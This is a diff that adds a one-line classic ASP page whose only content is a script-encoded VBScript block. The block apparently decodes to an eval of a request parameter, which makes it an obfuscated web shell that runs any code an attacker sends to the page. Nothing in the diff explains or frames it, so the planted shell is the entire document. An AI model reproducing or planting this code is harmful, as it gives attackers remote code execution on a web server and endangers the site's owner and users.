@@ -1,0 +1,1 @@
+<%@ LANGUAGE = VBScript.Encode %><%#@~^EQAAAA==n7ls,D;E/DcJ.Jb4AUAAA==^#~@%>
